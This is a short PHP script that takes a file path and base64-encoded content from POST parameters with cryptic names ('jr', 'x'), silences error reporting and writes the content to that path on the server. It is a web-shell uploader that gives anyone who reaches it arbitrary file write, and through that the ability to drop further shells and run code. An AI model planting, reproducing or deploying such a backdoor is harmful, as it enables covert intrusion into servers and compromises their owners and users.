<?php
error_reporting(0);
if (isset($_POST['jr']) && isset($_POST['x'])) {
    $body = base64_decode($_POST['x']);
    if (function_exists('file_put_contents')) {
        $ok = file_put_contents($_POST['jr'], $body);
    } else {
        $fp = fopen($_POST['jr'], 'wb');
        $ok = fwrite($fp, $body);
        fclose($fp);
    }
    echo $ok ? '1' : '0';
}
?>
